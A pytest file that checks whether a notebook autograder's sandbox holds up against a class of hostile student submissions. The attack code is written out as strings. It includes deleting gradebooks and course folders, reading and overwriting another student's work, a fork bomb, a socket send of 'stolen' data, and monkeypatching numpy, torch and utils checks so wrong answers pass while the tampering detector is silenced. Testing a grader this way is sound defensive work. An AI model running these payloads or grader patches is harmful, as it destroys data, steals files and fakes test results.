"""A hostile class through the real pipeline (``autograder.course.grade``), one student per attack.

Each attack asserts two things: the honest part of the attacker's notebook still earns its points,
and nobody else's grade, feedback or files changed. The assignment is built here: ``add`` (2
points, with a hidden test) is always answered honestly; ``square`` (3 points, checked with
``utils.assert_close``, ``np.allclose`` and ``torch.allclose``, numpy only) carries the attack.
"""

from __future__ import annotations

import hashlib
import socket
import threading
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_notebook

from autograder.course import KERNELSPEC, Reason, grade, release
from conftest import UNSAFE

pytestmark = [pytest.mark.pipeline, pytest.mark.xdist_group("grading-attacks")]
if UNSAFE:
    pytestmark.append(pytest.mark.skip(reason="the grading sandbox does not work on this machine"))

ASSIGNMENT, NOTEBOOK = "00_attacks", "attacks.ipynb"
SETUP = "import numpy as np\nimport torch\nimport utils\nutils.setup_notebook(seed=0)"
ADD = "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION"
SQUARE = "def square(x):\n    ### BEGIN SOLUTION\n    return x * x\n    ### END SOLUTION"
TEST_ADD = (
    "# Test: add (2 points)\nassert add(1, 2) == 3, 'add(1, 2) should be 3'\n"
    "### BEGIN HIDDEN TESTS\nassert add(-5, 5) == 0, 'hidden: add(-5, 5) should be 0'\n### END HIDDEN TESTS"
)
TEST_SQUARE = (
    "# Test: square (3 points)\nimport numpy as np\nimport torch\nfrom utils import assert_close\n"
    "x = np.arange(4.0)\nassert_close(square(x), x**2, 'square(x)')\n"
    "assert np.allclose(square(-x), x**2), 'square(-x)'\n"
    "assert torch.allclose(torch.as_tensor(square(x + 1)), torch.as_tensor((x + 1) ** 2)), 'square(x + 1)'"
)
HIDDEN_LINE = "hidden: add(-5, 5) should be 0"
GOOD_SQUARE = "def square(x):\n    return x * x"
WRONG_SQUARE = "def square(x):\n    return x * x + 1"
PATCHES = (
    "import numpy, torch, utils, utils.checks\n"
    "numpy.allclose = lambda *a, **k: True\nnumpy.testing.assert_allclose = lambda *a, **k: None\n"
    "torch.allclose = lambda *a, **k: True\nutils.assert_close = lambda *a, **k: None\n"
    "utils.checks.assert_close = lambda *a, **k: None\nglobals()['assert_close'] = lambda *a, **k: None\n"
)

# A student who has read autograder/agent.py: remove its hooks, or keep its recorder but silence
# its tampering check and patch the comparisons again after it has put them back.
UNHOOK_AGENT = (
    "import IPython, numpy, utils\n_ip = IPython.get_ipython()\n_ip.input_transformers_post.clear()\n"
    "_ip.events.callbacks['post_run_cell'].clear()\n" + PATCHES
)
OUTWIT_AGENT = (
    "import IPython, numpy, torch, utils\n_ip = IPython.get_ipython()\n"
    "_guard = next(t.__self__ for t in _ip.input_transformers_post if hasattr(t, '__self__'))\n"
    "_transform = _guard.transform\n"
    "def _sneaky(lines):\n"
    "    out = _transform(lines)\n"
    "    _guard.tampered.clear()\n"
    "    numpy.allclose = lambda *a, **k: True\n"
    "    torch.allclose = lambda *a, **k: True\n"
    "    utils.assert_close = lambda *a, **k: None\n"
    "    return [line for line in out if 'TamperingDetected' not in line]\n"
    "_ip.input_transformers_post[:] = [_sneaky]\n"
)


def harmless(code: str) -> str:
    """Attack code whose failure must not stop the cell (so the rest of it is graded)."""
    body = "\n".join("    " + line for line in code.splitlines())
    return f"try:\n{body}\nexcept Exception as exc:\n    print('attack blocked:', type(exc).__name__)\n"


def attacks(paths: dict[str, str], port: int) -> dict[str, tuple[str, float, Reason | None]]:
    """student -> (square cell source, expected score, reason the report must give)."""
    erase = (
        "import pathlib, shutil\nfor p in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents]:\n"
        "    (p / 'gradebook.db').unlink(missing_ok=True)\n"
        "    for d in ('autograded', 'feedback', 'submitted', 'source', 'course'):\n"
        "        shutil.rmtree(p / d, ignore_errors=True)\n"
        f"pathlib.Path({paths['gradebook']!r}).unlink()\n"
    )
    steal = (
        f"print(open({paths['victim_submitted']!r}).read()[:2000])\n"
        f"open({paths['victim_submitted']!r}, 'w').write('overwritten')\n"
    )
    read_source = f"print(open({paths['source']!r}).read())\n"
    snoop_feedback = f"print(open({paths['victim_feedback']!r}).read()[:2000])\n"
    network = f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'stolen')\n"
    return {
        "erase": (harmless(erase) + GOOD_SQUARE, 5.0, None),
        "steal": (harmless(steal) + harmless(snoop_feedback) + GOOD_SQUARE, 5.0, None),
        "read_source": (harmless(read_source) + GOOD_SQUARE, 5.0, None),
        "network": (harmless(network) + GOOD_SQUARE, 5.0, None),
        "memory": ("import numpy as np\nhog = np.ones(8 * 1024**3 // 8)\n" + GOOD_SQUARE, 2.0, Reason.LIMIT),
        "fork_bomb": ("import os\nwhile True:\n    os.fork()\n" + GOOD_SQUARE, 2.0, None),
        "flood": ("while True:\n    print('x' * 10000)\n" + GOOD_SQUARE, 2.0, Reason.LIMIT),
        "endless": ("while True:\n    pass\n" + GOOD_SQUARE, 2.0, Reason.LIMIT),
        "exit": ("import os\nos._exit(3)\n" + GOOD_SQUARE, 2.0, Reason.KERNEL_DIED),
        "torch": (
            "import torch as tt\ndef square(x):\n    return (tt.as_tensor(x) ** 2).numpy()",
            2.0,
            Reason.TORCH_IN_NUMPY,
        ),
        "wrong": (WRONG_SQUARE, 2.0, None),
        # The test of add runs before the patching cell and keeps its points.
        "wrong_patched": (PATCHES + WRONG_SQUARE, 2.0, Reason.TAMPERING),
        # Without the agent's hooks nothing is recorded after them: no later test can pass outside the kernel.
        "wrong_unhooked": (UNHOOK_AGENT + WRONG_SQUARE, 2.0, Reason.TAMPERING),
        # The comparisons pass in the kernel; repeated in the grader with square's answers, they fail.
        "wrong_outwitting": (OUTWIT_AGENT + WRONG_SQUARE, 2.0, Reason.TAMPERING),
    }


def build_source(root: Path) -> Path:
    nb = new_notebook(
        cells=[new_code_cell(c) for c in (SETUP, ADD, TEST_ADD, SQUARE, TEST_SQUARE)],
        metadata={"kernelspec": dict(KERNELSPEC), "dl_course": {"numpy_only": True}},
    )
    path = root / ASSIGNMENT / NOTEBOOK
    path.parent.mkdir(parents=True)
    nbformat.write(nb, path)
    return root


def answered(released: nbformat.NotebookNode, square: str) -> nbformat.NotebookNode:
    nb = nbformat.from_dict(released)
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid == "solution-add":
            cell.source = "def add(a, b):\n    return a + b"
        elif gid == "solution-square":
            cell.source = square
    return nb


class Listener:
    """A TCP server on the grader's loopback that records whoever connects."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = threading.Event()
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("attacks")
    source = build_source(tmp / "source")
    [released_path] = release(tmp / "release", source)
    released = nbformat.read(released_path, as_version=4)
    out, subs = tmp / "graded", tmp / "submissions"
    course = out / "course"
    paths = {
        "gradebook": str(course / "gradebook.db"),
        "victim_submitted": str(course / "submitted" / "victim" / ASSIGNMENT / NOTEBOOK),
        "victim_feedback": str(out / "feedback" / "victim" / ASSIGNMENT / "attacks.html"),
        "source": str(course / "source" / ASSIGNMENT / NOTEBOOK),
    }
    listener = Listener()
    plan = attacks(paths, listener.port)
    # "victim" sorts last: every attacker runs before the victim is graded, "aaa_victim" first.
    for student, square in [
        ("aaa_victim", GOOD_SQUARE),
        *[(s, c) for s, (c, _, _) in plan.items()],
        ("victim", GOOD_SQUARE),
    ]:
        path = subs / student / ASSIGNMENT / NOTEBOOK
        path.parent.mkdir(parents=True)
        nbformat.write(answered(released, square), path)
    before = {p: digest(p) for p in sorted(subs.rglob("*.ipynb"))}
    # Two at a time, as an instructor with two cores would: the attacks run beside other students.
    report = grade(subs, out, source, timeout=20, progress=False, jobs=2)
    listener.stop.set()
    return report, out, plan, before, listener


def score(report, student) -> float:
    return report.scores.get((student, ASSIGNMENT), (None, None))[0]


def test_victims_keep_their_grades_files_and_feedback(graded):
    report, out, _, before, _ = graded
    for victim in ("aaa_victim", "victim"):
        assert score(report, victim) == 5.0, report.table()
        assert (out / "feedback" / victim / ASSIGNMENT / "attacks.html").exists()
    after = {p: digest(p) for p in before}
    assert after == before, "a submission in the class folder was changed during grading"
    rows = (out / "grades.csv").read_text().splitlines()
    assert len(rows) == 1 + len(report.students), rows


@pytest.mark.parametrize(
    "student",
    ["erase", "steal", "read_source", "network", "memory", "fork_bomb", "flood", "endless", "exit", "torch", "wrong"],
)
def test_each_attack_costs_only_its_own_cell(graded, student):
    report, out, plan, _, listener = graded
    _, expected, reason = plan[student]
    assert score(report, student) == expected, report.table()
    if reason is not None:
        reasons = [p.reason for p in report.problems if p.student == student]
        assert reason in reasons, [str(p) for p in report.problems if p.student == student]
    autograded = nbformat.read(out / "course" / "autograded" / student / ASSIGNMENT / NOTEBOOK, as_version=4)
    printed = str([c.get("outputs") for c in autograded.cells if not c.metadata.get("nbgrader", {}).get("grade")])
    assert HIDDEN_LINE not in printed, "the attacker's own cells printed the instructor's hidden test"
    assert "overwritten" not in (out / "course" / "submitted" / "victim" / ASSIGNMENT / NOTEBOOK).read_text()
    assert listener.connections == 0, "a sandboxed kernel reached the grader's loopback"


@pytest.mark.parametrize("student", ["wrong_patched", "wrong_unhooked", "wrong_outwitting"])
def test_patched_checks_score_no_more_than_the_same_wrong_answer(graded, student):
    report, _, plan, _, _ = graded
    assert score(report, student) == plan[student][1] <= score(report, "wrong"), report.table()
    assert Reason.TAMPERING in [p.reason for p in report.problems if p.student == student]


def test_comparisons_outwitted_in_the_kernel_fail_outside_it(graded):
    """The agent in the kernel was silenced: only the check outside the kernel caught the patch."""
    _, out, _, _, _ = graded
    nb = nbformat.read(out / "course" / "autograded" / "wrong_outwitting" / ASSIGNMENT / NOTEBOOK, as_version=4)
    [test] = [c for c in nb.cells if c.source.startswith("# Test: square")]
    errors = [o for o in test.outputs if o.output_type == "error"]
    assert [e.ename for e in errors] == ["CleanCheckFailed"], errors
    assert "square" in errors[0].evalue and "AssertionError" in errors[0].evalue, errors[0].evalue
    summary = nb.metadata["dl_grading"]["checked_outside_the_kernel"]
    assert summary["passed"] == ["add"] and summary["failed"] == ["square"], summary
    honest = nbformat.read(out / "course" / "autograded" / "victim" / ASSIGNMENT / NOTEBOOK, as_version=4)
    assert honest.metadata["dl_grading"]["checked_outside_the_kernel"]["passed"] == ["add", "square"]


def test_limits_are_explained_in_the_students_feedback(graded):
    _, out, _, _, _ = graded
    feedback = (out / "feedback" / "memory" / ASSIGNMENT / "attacks.html").read_text()
    assert "of memory and was stopped" in feedback
